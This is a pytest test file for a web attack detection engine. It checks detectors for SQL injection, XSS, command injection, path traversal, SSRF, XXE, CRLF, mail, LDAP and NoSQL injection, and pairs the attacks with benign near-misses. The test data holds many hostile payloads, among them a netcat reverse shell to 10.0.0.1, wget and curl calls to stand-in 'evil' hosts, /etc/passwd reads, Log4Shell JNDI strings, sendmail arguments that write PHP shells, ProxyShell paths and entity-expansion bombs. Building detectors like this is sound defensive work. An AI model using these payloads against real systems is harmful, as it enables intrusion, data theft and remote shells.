"""Per-detector behaviour, including the evasions attackers use and the prose that must stay clean."""
from __future__ import annotations

import json
import urllib.parse

import pytest

from sensor.detect import THRESHOLD, verdict
from sensor.detect import ptrav, rce, sqli, xss
from tests.detect.conftest import req


def types(hits, floor: float = THRESHOLD) -> set[str]:
    return {h.type for h in hits if h.score >= floor}


@pytest.mark.parametrize("v", [
    "1' or '1'='1", "admin'--", "1 union select password from users", "-1 UNION/**/SELECT 1,2,3",
    "1/*!50000union*/ /*!50000select*/ 1", "1' UnIoN sElEcT null--", "1;drop table users", "1 and sleep(5)",
    "x' and extractvalue(1,concat(0x7e,version()))-- -", "1' AND 1=1#", "\\' or 1=1 -- ", "1) or (1=1",
    "1' waitfor delay '0:0:5'--", "';exec master..xp_cmdshell 'dir'--", "1 or benchmark(1000000,md5(1))",
    "1 order by 3--", "@@version", "1' and (select 1 from information_schema.tables)--",
])
def test_sqli_positives(v):
    f = sqli.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", [
    "mother or daughter", "O'Brien", "it's 5 o'clock or later", "Rock 'n' roll", "select a color from the list",
    "The script is written from right to left, (Lal 1966)", "1-2-3", "union station", "Tom & Jerry",
    "price >= 100", "don't, or else",
])
def test_sqli_negatives(v):
    f = sqli.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


def test_sqli_knows_the_context_it_breaks_out_of():
    assert sqli.analyze("x' or 'a'='a").rule == "sqli:quote_logic"
    assert sqli.analyze('x" or "a"="a').rule == "sqli:quote_logic"
    toks = sqli.tokenize("'abc' /* c */ or 1=1 -- x")
    assert [t.t for t in toks] == ["s", "c", "&", "1", "o", "1", "c"]


@pytest.mark.parametrize("v", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "java&#x0A;script:alert(1)", "jav\tascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)",
    "\" onmouseover=\"alert(1)", "'><script>alert(1)</script>", "';alert(document.cookie)//",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>", "<iframe src=//evil>", "<div style=\"x:expression(alert(1))\">",
    "<x onclick=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
])
def test_xss_positives(v):
    f = xss.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", ["a < b and c > d", "Juan <juan@x.com>", "5 > 3", "Contact me on=monday",
                               "javascript is a language", "online=yes"])
def test_xss_negatives(v):
    f = xss.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


@pytest.mark.parametrize("v", [
    ";cat /etc/passwd", "| id", "`whoami`", "$(id)", "c'a't${IFS}/etc/passwd", "cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}", "/???/c?t /etc/passwd", "x && wget http://evil/sh", "a;c\\at /etc/shadow",
    "() { :; }; /bin/bash -c id", "find /etc -name passwd -exec cat {} +", "1|nc -e /bin/sh 10.0.0.1 4444",
    "& ping -n 3 127.0.0.1", "| powershell -enc SQBFAFgA", "FOR /F %i IN (a.txt) DO type %i",
    "\"`false`\"", "time curl evil.example",
])
def test_rce_positives(v):
    f = rce.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", ["Tom & Jerry", "cats and dogs", "hello; world", "I love to cat things",
                               "salt & pepper", "find the best price", "time flies"])
def test_rce_negatives(v):
    f = rce.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


def test_shell_tokenizer_joins_quoted_and_escaped_parts():
    assert [w for _, w in rce.words(rce.normalize("c'a't /e\"t\"c/pas\\swd"))] == ["cat", "/etc/passwd"]
    assert [s for s, _ in rce.words("a;b|c&&d")] == ["^", ";", "|", "&&"]


@pytest.mark.parametrize("v", [
    "../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fboot.ini", "....//....//etc/passwd", "../../../../etc/passwd%00.jpg",
    "%252e%252e%252fetc%252fpasswd", "..%u2215..%u2215etc%u2215passwd", "/etc/shadow",
])
def test_ptrav_positives(v):
    f = ptrav.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


def test_ptrav_null_byte_and_overlong_normalisation():
    norm, nul = ptrav.normalize("..%c0%af..%c0%afetc%00")
    assert norm == "../../etc" and nul
    assert ptrav.analyze("image.png") is None
    assert ptrav.analyze("/static/app.js", is_path=True) is None


@pytest.mark.parametrize("target,kind", [
    ("/?t={{7*7}}", "ssti"), ("/?t=${7*7}", "ssti"), ("/?p=<!--%23exec%20cmd=%22id%22-->", "ssi"),
    ("/?u=http://169.254.169.254/latest/meta-data/", "ssrf"), ("/?u=http://2130706433/", "ssrf"),
    ("/?u=gopher://127.0.0.1:6379/_x", "ssrf"), ("/?n=x%0d%0aSet-Cookie:%20a=b", "crlf"),
    ("/?m=a@b.c%0aBcc:%20x@y.z", "mail_injection"), ("/?u=*)(uid=*))(|(uid=*", "ldapi"),
    ("/?user[$ne]=x", "nosqli"), ("/?inc=http://10.0.0.5/shell.txt?", "rfi"),
    ("/?x=${jndi:ldap://x/a}", "rce"), ("/?x=${${lower:j}ndi:ldap://x/a}", "rce"),
    ("/?x=O:8:%22stdClass%22:0:{}", "rce"), ("/?x=%3C%3Fphp%20system($_GET[1]);", "rce"),
    ("/?x=__import__('os').system('id')", "rce"), ("/?x=java.lang.Runtime", "rce"),
    ("/?x=require('child_process').exec('id')", "rce"),
])
def test_other_detectors(engine, target, kind):
    assert kind in types(engine.inspect(req(target))), target


def test_xxe_in_xml_body(engine):
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    hits = engine.inspect(req("/api", "POST", [("Content-Type", "application/xml")], body))
    assert "xxe" in types(hits)


def test_json_unicode_escapes_are_decoded_before_detection(engine):
    body = json.dumps({"q": "<script>alert(1)</script>"}).replace("<", "\\u003c").encode()
    hits = engine.inspect(req("/api", "POST", [("Content-Type", "application/json")], body))
    assert any(h.type == "xss" and h.point == ["post", "json_doc", "hash", "q"] for h in hits)


def test_scanner_user_agent_and_protocol_smuggling(engine):
    hits = engine.inspect(req("/", headers=[("User-Agent", "sqlmap/1.7")]))
    assert "scanner" in types(hits)
    hits = engine.inspect_headers(req("/", "POST", [("Content-Length", "5"), ("Transfer-Encoding", "chunked")]))
    assert any(h.rule == "protocol:cl_te" for h in hits)
    hits = engine.inspect_headers(req("/", "POST", [("Content-Length", "5"), ("Content-Length", "6")]))
    assert any(h.rule == "protocol:duplicate_cl" for h in hits)


def test_inspect_headers_ignores_the_body(engine):
    r = req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"q=1' union select 1--")
    assert verdict(engine.inspect(r)) == "attack"
    assert verdict(engine.inspect_headers(r)) == "clean"


def test_overlimit_is_a_protocol_hit(engine):
    from sensor.detect import Engine, Limits
    e = Engine(limits=Limits(max_params=5))
    hits = e.inspect(req("/?" + "&".join(f"a{i}=1" for i in range(50))))
    assert any(h.type == "protocol" and h.rule == "overlimit" and h.score >= THRESHOLD for h in hits)


def test_cpu_budget_is_an_overlimit_hit():
    from sensor.detect import Engine, Limits
    e = Engine(limits=Limits(cpu_budget_ms=0.001))
    hits = e.inspect(req("/?" + "&".join(f"a{i}=%27x{i}" for i in range(64))))
    assert any(h.rule == "overlimit" and h.value == "cpu_budget" for h in hits), hits


def test_the_cpu_budget_is_checked_after_each_long_value():
    # three long values, fewer than the eight points between regular checks: the budget stops at the first, so the
    # later values are not inspected (their hits would be there otherwise)
    from sensor.detect import Engine, Limits
    long_sql = "%27%20OR%201%3D1--%20" + "a" * 6000
    target = "/?" + "&".join(f"p{i}={long_sql}" for i in range(3))
    hits = Engine(limits=Limits(cpu_budget_ms=0.001)).inspect(req(target))
    assert any(h.rule == "overlimit" and h.value == "cpu_budget" for h in hits), hits
    assert not any(h.point[:2] == ["get", "p2"] for h in hits), hits
    full = Engine().inspect(req(target))
    assert any(h.point[:2] == ["get", "p2"] and h.type == "sqli" for h in full), full


def test_the_cpu_budget_is_checked_after_every_point():
    # two short values, a handful of points: a few hundred hostile characters can cost tens of ms, so the budget is
    # not left to a check every few points or after long values only
    from sensor.detect import Engine, Limits
    target = "/?p0=%27%20OR%201%3D1--&p1=%27%20OR%202%3D2--"
    full = Engine().inspect(req(target))
    assert any(h.point[:2] == ["get", "p1"] and h.type == "sqli" for h in full), full
    hits = Engine(limits=Limits(cpu_budget_ms=0.001)).inspect(req(target))
    assert any(h.rule == "overlimit" and h.value == "cpu_budget" for h in hits), hits
    assert not any(h.point[:2] == ["get", "p1"] for h in hits), hits


def test_a_garbage_collection_pause_is_not_charged_to_the_request():
    """A full collection of a big heap can land inside any request; it must not make an ordinary request an
    'overlimit' attack. Here a collection that spins 80 ms (budget 50 ms) is forced inside `inspect`."""
    import gc
    import time

    from sensor.detect import Engine
    e = Engine()
    r = req("/?" + "&".join(f"a{i}=v{i}" for i in range(40)))
    e.inspect(r)   # warm: lazy imports and caches are not what this test is about
    spun = []

    def slow_collection(phase, _info):
        if phase == "start" and not spun:
            spun.append(1)
            t = time.thread_time()
            while time.thread_time() - t < 0.08:
                pass

    gc.callbacks.append(slow_collection)
    old = gc.get_threshold()
    try:
        gc.set_threshold(1)    # the next allocation inside inspect() starts a collection
        t0 = time.thread_time()
        hits = e.inspect(r)
        took = time.thread_time() - t0
    finally:
        gc.set_threshold(*old)
        gc.callbacks.remove(slow_collection)
    assert spun and took > 0.05, "the pause did not land inside the request"
    assert not [h for h in hits if h.rule == "overlimit"], hits


def test_hits_carry_point_value_and_calibrated_score(engine):
    hits = engine.inspect(req("/search?q=%27%20or%201%3D1--"))
    h = next(h for h in hits if h.type == "sqli")
    assert h.point == ["get", "q"] and h.value == "' or 1=1--" and 0.5 <= h.score <= 1.0 and h.rule.startswith("sqli:")
    assert engine(req("/?q=hello")) == []  # Engine is a detector callable


def test_benign_traffic_is_clean(engine):
    r = req("/products/42?sort=price&page=2&q=red+shoes", headers=[
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5"),
        ("Cookie", "sid=4f9a0c; theme=dark"), ("Referer", "https://shop.example/products?page=1")])
    assert verdict(engine.inspect(r)) == "clean", engine.inspect(r)


def test_compiled_database_is_cached_and_reloaded(tmp_path, monkeypatch):
    from sensor.detect import Engine
    monkeypatch.setenv("RAMPART_CACHE_DIR", str(tmp_path))
    first = Engine()
    cached = list(tmp_path.glob("hs-*.db"))
    assert len(cached) == 1 and cached[0].stat().st_size > 0
    second = Engine()  # loads the serialized database instead of compiling
    for e in (first, second):
        assert types(e.inspect(req("/?q=1%20union%20select%201"))) == {"sqli"}
    cached[0].write_bytes(b"garbage")  # a corrupt cache is recompiled, not trusted
    assert types(Engine().inspect(req("/?q=%3Cscript%3E"))) == {"xss"}


# --- Round 5 (blind batches): CRLF through line breaks that only appear after a server mangles the value, mail
# header / sendmail-argument injection, Exchange explicit-logon path confusion (ProxyShell), entity expansion bombs and
# external DTDs on raw addresses. Written before the fix and measured on the code before round 5's changes.
_FORM = [("Content-Type", "application/x-www-form-urlencoded")]
_XML = [("Content-Type", "application/xml")]


def _form(field: str, value: str) -> tuple[str, str, list[tuple[str, str]], bytes]:
    from urllib.parse import quote_plus
    return ("/contact/send", "POST", _FORM, f"name=Jo&{field}={quote_plus(value)}&submit=Send".encode())


def _xml(doc: str) -> tuple[str, str, list[tuple[str, str]], bytes]:
    return ("/api/v1/import", "POST", _XML, doc.encode())


_LOL = "".join(f'<!ENTITY b{i} "{"".join(f"&b{i - 1};" for _ in range(8))}">' for i in range(1, 7))
R5_ATTACKS = [
    # CJK characters whose code points end in 0x0A / 0x0D: servers that keep the low byte emit LF / CR
    ("crlf", ("/%E5%98%8A%E5%98%8DLocation:%20https://evil.example/", "GET", [], b"")),
    ("crlf", ("/redirect?next=%E5%98%8D%E5%98%8ASet-Cookie:%20session=attacker", "GET", [], b"")),
    ("crlf", ("/api?lang=en%E5%98%8A%E5%98%8DX-Forwarded-Host:%20evil.example", "GET", [], b"")),
    ("crlf", ("/%E5%98%8A%E5%98%8DContent-Length:%200%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8DHTTP/1.1%20200%20OK", "GET", [], b"")),
    # a `%` in front of an encoded line break: filters that strip `%0a` once leave one behind
    ("crlf", ("/%%0d0aLocation:%20//evil.example", "GET", [], b"")),
    ("crlf", ("/search?q=a%%0a0aSet-Cookie:x=1", "GET", [], b"")),
    ("crlf", ("/x%250d%250aSet-Cookie:a=b", "GET", [], b"")),
    # mail header + body injection through a single-line field
    ("mail_injection", _form("subject", "Invoice\r\nContent-Disposition: attachment; filename=x.html\r\n\r\n<html>pay</html>")),
    ("mail_injection", _form("name", "Bob\nContent-Type: multipart/mixed; boundary=xyz\n\n--xyz\nhi")),
    ("mail_injection", _form("email", "a@b.example\r\nContent-Transfer-Encoding: base64\r\n\r\nPGI+aGk8L2I+")),
    # sendmail arguments smuggled into a sender / recipient address (PHPMailer, Zend, SwiftMailer, Roundcube)
    ("mail_injection", _form("email", '"x\\" -oQ/tmp -X/var/www/uploads/log.phtml y"@example.org')),
    ("mail_injection", _form("from", "me@example.org -X/srv/http/public/shell.php")),
    ("mail_injection", _form("sender", "a@b.example -C/tmp/evil.cf -X/var/www/html/x.php")),
    ("mail_injection", _form("reply_to", "noreply@shop.example -OQueueDirectory=/tmp -X /home/site/public_html/c.php")),
    # Exchange explicit-logon path confusion (ProxyShell CVE-2021-34473, ProxyNotShell CVE-2022-41040)
    ("ssrf", ("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "GET", [], b"")),
    ("ssrf", ("/autodiscover/autodiscover.json?@attacker.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@attacker.example", "GET", [], b"")),
    ("ssrf", ("/autodiscover/autodiscover.json?a..foo.var/owa/?&Email=autodiscover/autodiscover.json?a..foo.var&Protocol=XYZ", "GET", [], b"")),
    ("ssrf", ("/Autodiscover/Autodiscover.json?@foo.example/ecp/DDI/DDIService.svc/GetList?&Email=Autodiscover/Autodiscover.json%3f@foo.example", "GET", [], b"")),
    # entity expansion bombs (billion laughs, quadratic blowup) with the parser no longer expanding them
    ("xxe", _xml(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY b0 "xxxxxxxx">{_LOL}]><d>&b6;</d>')),
    ("xxe", _xml('<!DOCTYPE q [<!ENTITY x "' + "A" * 2000 + '">]><q>' + "&x;" * 60 + "</q>")),
    ("xxe", _xml('<!DOCTYPE svg [<!ENTITY ha "Ha !"><!ENTITY ha2 "&ha; &ha; &ha; &ha; &ha;"><!ENTITY ha3 "&ha2; &ha2; &ha2; &ha2; &ha2;">]><svg>&ha3;</svg>')),
    ("xxe", _xml('<!DOCTYPE r [<!ENTITY e-0 "e"><!ENTITY e-1 "&e-0;&e-0;&e-0;&e-0;&e-0;&e-0;"><!ENTITY e-2 "&e-1;&e-1;&e-1;&e-1;&e-1;&e-1;">]><r>&e-2;</r>')),
    # external DTDs fetched from raw addresses or through non-HTTP schemes
    ("xxe", _xml('<!DOCTYPE foo SYSTEM "http://198.51.100.23:8080/evil.dtd"><foo/>')),
    ("xxe", _xml('<!DOCTYPE r PUBLIC "-//ACME//DTD R//EN" "http://10.0.0.8/r.dtd"><r/>')),
    ("xxe", _xml('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://[2001:db8::5]/p.dtd"><plist/>')),
    ("xxe", _xml('<!DOCTYPE note SYSTEM "ftp://203.0.113.5/note.dtd"><note>x</note>')),
    ("xxe", _xml('<!DOCTYPE x SYSTEM "jar:http://10.0.0.1/a.jar!/b.dtd"><x/>')),
]
R5_BENIGN = [
    ("/zh/wiki/%E5%98%8A%E5%98%8D", "GET", [], b""),
    ("/search?q=%E5%98%8D%E5%98%8D%20location", "GET", [], b""),
    ("/cz/cena?text=200%20K%C4%8D%20server%3A%20Praha", "GET", [], b""),
    ("/docs/percent?ex=100%25%200a", "GET", [], b""),
    _form("message", "tar's -C /tmp option, curl's -X POST and a Content-Type: application/json header"),
    _form("message", "HTTP/1.1 415 Unsupported Media Type\r\nContent-Type: application/problem+json\r\n\r\n{\"title\": \"x\"}"),
    _form("message", "POST /api/orders HTTP/1.1\nContent-Type: application/json\n\n{\"id\": 1}"),
    _form("email", "first.last+tag@example.com"),
    _form("message", "Hi team\r\nContent-Type: text/html is what /api/export returns, not CSV.\r\nThanks"),
    _form("message", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--xyz--"),
    _form("message", "java -Xmx512m -jar app.jar, then sendmail -t -oi < message.txt"),
    ("/autodiscover/autodiscover.json?Email=jane.doe@contoso.example&Protocol=AutodiscoverV1&RedirectCount=1", "GET", [], b""),
    ("/autodiscover/autodiscover.json/v1.0/jane@contoso.example?Protocol=EWS", "GET", [], b""),
    ("/search?q=autodiscover.json%3FEmail%3Duser%40contoso.example", "GET", [], b""),
    _xml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
         '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>'),
    _xml('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>'),
    _xml('<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="x"/>'),
    _xml('<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd"><properties><entry key="a">b</entry></properties>'),
    _xml('<!DOCTYPE doc [<!ENTITY company "Acme Corp"><!ENTITY product "&company; Widget">]><doc>&product;</doc>'),
    _form("body", "&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;"),
    _form("body", "<p>&nbsp;&nbsp;&nbsp;&nbsp;indented &mdash; &hellip;</p>"),
    _form("message", "see http://192.168.1.10/setup.xml on the router"),
]


@pytest.mark.parametrize("kind,request_args", R5_ATTACKS, ids=[f"{k}:{a[0][:40]}:{a[3][:30]!r}" for k, a in R5_ATTACKS])
def test_round5_attacks_are_detected(engine, kind, request_args):
    assert kind in types(engine.inspect(req(*request_args))), request_args


@pytest.mark.parametrize("request_args", R5_BENIGN, ids=[f"{a[0][:40]}:{a[3][:30]!r}" for a in R5_BENIGN])
def test_round5_near_misses_are_clean(engine, request_args):
    hits = engine.inspect(req(*request_args))
    assert verdict(hits) == "clean", [(h.rule, h.point, h.score) for h in hits if h.score >= THRESHOLD]


def test_entity_references_in_ordinary_values_are_no_entity_bomb(engine):
    # a bomb is judged from an XML document's declarations (sensor/points/xml.py), not from a value that happens to
    # be made of entity references: `&euro;&euro;&euro;&euro;` in a search box was an xxe hit until stop 16
    for v in ("&euro;&euro;&euro;&euro;", "&eacute;&egrave;&agrave;&ccedil;", "&copy;&reg;&trade;&deg;"):
        assert verdict(engine.inspect(req("/search?q=" + urllib.parse.quote(v)))) == "clean", v
    bomb = _xml('<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><r>&c;</r>')
    assert "xxe:entity_expansion" in {h.rule for h in engine.inspect(req(*bomb))}


# Round 8 (blind benign 4): an iCalendar / vCard document is lines of NAME:value; its `LOCATION:` and `X-WR-…:` lines are
# properties, not headers. Inside one, headers a split response acts on (Set-Cookie, Refresh, Content-Length, X-Accel-
# Redirect, a blank line and a status line) still count; outside one, `Location:` and `X-…:` still count. Before the fix:
# 10 / 10 attacks caught, 5 / 6 benign flagged; after: 10 / 10, 0 / 6.
R8_CRLF_ATTACKS = [
    "en\r\nLocation: https://evil.example/",
    "BEGIN:VEVENT\r\nSet-Cookie: session=attacker\r\nEND:VEVENT",
    "BEGIN:VCALENDAR\r\nX-Accel-Redirect: /internal/secrets.txt",
    "BEGIN:VEVENT\r\n\r\n<html><script>alert(1)</script>",
    "x\nLOCATION:https://evil.example",
    "BEGIN:VCARD\r\nRefresh: 0;url=https://evil.example/",
    "BEGIN:VEVENT\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "/x\r\nX-Forwarded-Host: evil.example",
    "b\nLocation: //evil.example",
    "\r\nX-Sendfile: /etc/passwd",
]
R8_CRLF_BENIGN = [
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Acme//Cal//EN\r\nX-WR-CALNAME:Team\r\nBEGIN:VEVENT\r\nUID:1@acme.example\r\n"
    "DTSTART:20240612T090000Z\r\nLOCATION:Conference room B\r\nEND:VEVENT\r\nEND:VCALENDAR",
    "BEGIN:VCARD\nVERSION:3.0\nFN:Jane Doe\nTEL;TYPE=CELL:+44 7700 900123\nX-SOCIALPROFILE;TYPE=twitter:https://twitter.com/jane\nEND:VCARD",
    "BEGIN:VTODO\nSUMMARY:Book venue\nLOCATION:Leeds\nEND:VTODO",
    "BEGIN:VEVENT\r\nSUMMARY:Dentist\r\nLOCATION:12 High St\\, Bath\r\nX-APPLE-TRAVEL-ADVISORY-BEHAVIOR:AUTOMATIC\r\nEND:VEVENT",
    "BEGIN:VCALENDAR\nX-WR-TIMEZONE:Europe/London\nBEGIN:VEVENT\nLOCATION:Online\nX-MICROSOFT-CDO-BUSYSTATUS:BUSY\nEND:VEVENT\nEND:VCALENDAR",
    "BEGIN:VEVENT\nDESCRIPTION:Agenda attached\nLOCATION:https://meet.example.com/abc-defg-hij\nEND:VEVENT",
]


@pytest.mark.parametrize("value", R8_CRLF_ATTACKS)
def test_round8_header_injection_is_caught(engine, value):
    assert "crlf" in types(engine.inspect(req(*_form("notes", value)))), value


@pytest.mark.parametrize("value", R8_CRLF_BENIGN)
def test_round8_calendar_lines_are_no_headers(engine, value):
    hits = engine.inspect(req(*_form("notes", value)))
    assert verdict(hits) == "clean", [(h.rule, h.point, h.score) for h in hits if h.score >= THRESHOLD]


# Round 9 (blind batch l): an LDAP (&…) filter closed and a second one left open, POP3 commands after a line break,
# a JSON object repeating a privilege member (CouchDB CVE-2017-12635), Razor code blocks reaching .NET process/file
# APIs, and XML bodies in encodings expat refuses or misreads (UTF-7, UTF-32, EBCDIC). Written before the fix and
# measured on the code before it: 5 / 29 attacks caught as their family, 0 / 35 benign flagged but 3 of the 4 benign
# non-UTF-8 XML bodies a parser_error (unread); after: 29 / 29, 0 / 35, none unread.
def _utf7(doc: str) -> str:
    return '<?xml version="1.0" encoding="UTF-7"?>' + doc.encode("utf-7").decode("ascii")


_XXE_DOC = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
R9_ATTACKS = [
    ("ldapi", "query", "filter", "(|(uid=jdoe)(mail=jdoe@corp.example))(&(objectClass=*"),
    ("ldapi", "query", "filter", "(&(uid=a))(|(userPassword=*"),
    ("ldapi", "query", "filter", "(!(cn=x))(&(uid:dn:=*"),
    ("ldapi", "query", "user", "admin)(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,DC=corp,DC=local"),
    ("ldapi", "query", "user", "x))(|(uid:caseExactMatch:=admin"),
    ("ldapi", "form", "user", "*)(userAccountControl:1.2.840.113556.1.4.803:=512"),
    ("mail_injection", "query", "user", "x\r\nTOP 1 0\r\nQUIT"),
    ("mail_injection", "query", "login", "bob\nLIST\nRETR 2\nQUIT"),
    ("mail_injection", "form", "user", "mallory\r\nNOOP\r\nDELE 1\r\nQUIT"),
    ("mail_injection", "form", "account", "eve\nDELE 3\nDELE 4"),
    ("nosqli", "body:application/json", "_users/org.couchdb.user:x",
     '{"type": "user", "name": "x", "roles": ["_admin"], "roles": [], "password": "x"}'),
    ("nosqli", "body:application/json", "_users/org.couchdb.user:a",
     '{"roles":["_admin"],"type":"user","name":"a","password":"a","roles":[]}'),
    ("nosqli", "body:application/json", "_users/org.couchdb.user:b",
     '{"type":"user","name":"b","roles":[],"roles":["_admin"],"password":"b"}'),
    ("nosqli", "body:application/json", "users", '{"user":{"name":"e","role":"admin","role":"user"}}'),
    ("nosqli", "body:application/json", "account", '{"username":"f","is_admin":true,"is_admin":false,"password":"f"}'),
    ("nosqli", "body:application/json", "profile", '{"isAdmin":false,"name":"g","isAdmin":true}'),
    ("nosqli", "body:application/json", "tokens", '{"scope":"read write admin","client_id":"x","scope":"read"}'),
    ("ssti", "json", "body", '@System.IO.Directory.GetFiles("C:\\\\")'),
    ("ssti", "json", "body", '@{ var p = new Process(); p.StartInfo.FileName = "powershell"; p.Start(); }'),
    ("ssti", "form", "template", '@{ System.IO.File.WriteAllText("c:/inetpub/wwwroot/x.aspx", "x"); }'),
    ("ssti", "json", "body", '<p>@(System.IO.File.ReadAllText("web.config"))</p>'),
    ("ssti", "form", "template", "@{ var t = System.Reflection.Assembly.Load(bytes); }"),
    ("xxe", "body:application/xml", "parse", _utf7(_XXE_DOC)),
    ("xxe", "body:application/xml", "parse", _utf7("<r><name>alice</name></r>")),
    ("xxe", "body:text/xml", "soap", "<?xml version='1.0' encoding='utf-7'?>"
     + '<!DOCTYPE r SYSTEM "http://10.0.0.5:8000/x.dtd"><r/>'.encode("utf-7").decode("ascii")),
]
R9_XML_BYTES = [  # the same external entity in encodings expat cannot read (UTF-32, EBCDIC) or refuses (Shift_JIS)
    ('<?xml version="1.0" encoding="IBM037"?>' + _XXE_DOC).encode("cp037"),
    ('<?xml version="1.0" encoding="UTF-32"?>' + _XXE_DOC).encode("utf-32"),
    ('<?xml version="1.0" encoding="UTF-32BE"?>' + _XXE_DOC).encode("utf-32-be"),
    ('<?xml version="1.0" encoding="Shift_JIS"?>' + _XXE_DOC).encode("shift_jis"),
]
R9_BENIGN = [
    ("query", "filter", "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group)"
                        "(groupType:1.2.840.113556.1.4.803:=2147483648))"),
    ("query", "filter", "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))"),
    ("query", "filter", "(&(objectClass=user)(|(cn=a)(cn=b)))"),
    ("query", "filter", "(&(objectClass=user)(memberOf:1.2.840.113556.1.4.1941:=CN=Staff,OU=Groups,DC=corp,DC=example))"),
    ("query", "q", "version 2.1.4:=latest"),
    ("query", "q", "OID 1.3.6.1.4.1.1466.115.121.1.15 syntax"),
    ("query", "user", "Step 1\r\nList 2 items\r\nQuit smoking"),
    ("query", "user", "Top 10\nList"),
    ("form", "comment", "Chapter 1\r\nTop 5 tips\r\nList 3 of 4\r\nQuit"),
    ("form", "comment", "To delete: DELE 1 in POP3 removes message 1"),
    ("form", "comment", "alice\r\nbob\r\ncarol"),
    ("body:application/json", "_users/org.couchdb.user:jan", '{"type":"user","name":"jan","roles":[],"password":"s3cret"}'),
    ("body:application/json", "_users/org.couchdb.user:adm", '{"type":"user","name":"adm","roles":["_admin"],"password":"s"}'),
    ("body:application/json", "items", '{"tags":["a"],"tags":["b"]}'),
    ("body:application/json", "items", '{"id":1,"name":"a","name":"b"}'),
    ("body:application/json", "users", '{"role":"admin","user":{"role":"viewer"},"roles":["a"],"roles":["a"]}'),
    ("body:application/json", "events", '[{"type":"click","x":1},{"type":"view","x":2}]'),
    ("body:application/json", "notes", '{"text":"set \\"role\\": \\"admin\\" then \\"role\\": \\"user\\""}'),
    ("json", "body", '@{ ViewBag.Title = "Home"; }'),
    ("json", "body", "@Html.Raw(Model.Body)"),
    ("json", "body", "@model MyApp.Models.User"),
    ("json", "body", "Use System.Diagnostics.Process.Start to launch a program in C#"),
    ("json", "body", "@{ var total = Model.Items.Sum(i => i.Price); }"),
    ("form", "comment", "@foreach (var item in Model.Items) { <li>@item.Name</li> }"),
    ("form", "comment", "ping @jane about System.IO.File.ReadAllText vs File.ReadAllLines"),
    ("body:application/xml", "parse", '<?xml version="1.0" encoding="UTF-8"?><r><name>alice</name></r>'),
    ("body:application/xml", "parse", '<?xml version="1.0" encoding="ISO-8859-1"?><r><name>caf\xe9</name></r>'),
    ("body:application/xml", "parse", '<?xml version="1.0" encoding="windows-1252"?><r>x</r>'),
    ("body:application/xml", "parse", '<?xml version="1.0" encoding="Shift_JIS"?><r>x</r>'),
    ("body:application/xml", "parse", '<?xml version="1.0" encoding="UTF-16"?><r>x</r>'),
    ("body:text/xml", "feed", '<?xml version="1.0" encoding="EUC-JP"?><rss version="2.0"><channel><title>t</title></channel></rss>'),
]
R9_XML_BENIGN_BYTES = [
    '<?xml version="1.0" encoding="Shift_JIS"?><r><name>山田</name></r>'.encode("shift_jis"),
    '<?xml version="1.0" encoding="UTF-32"?><r><name>alice</name></r>'.encode("utf-32"),
    '<?xml version="1.0" encoding="IBM037"?><r><name>alice</name></r>'.encode("cp037"),
    '<?xml version="1.0" encoding="GB18030"?><r><name>张伟</name></r>'.encode("gb18030"),
]


def _r9(carrier: str, key: str, value: str):
    from tests.detect.wild_benign import build_request
    return build_request(carrier, value, key)


@pytest.mark.parametrize("kind,carrier,key,value", R9_ATTACKS, ids=[f"{k}:{v[:40]!r}" for k, _, _, v in R9_ATTACKS])
def test_round9_attacks_are_detected(engine, kind, carrier, key, value):
    assert kind in types(engine.inspect(_r9(carrier, key, value))), value


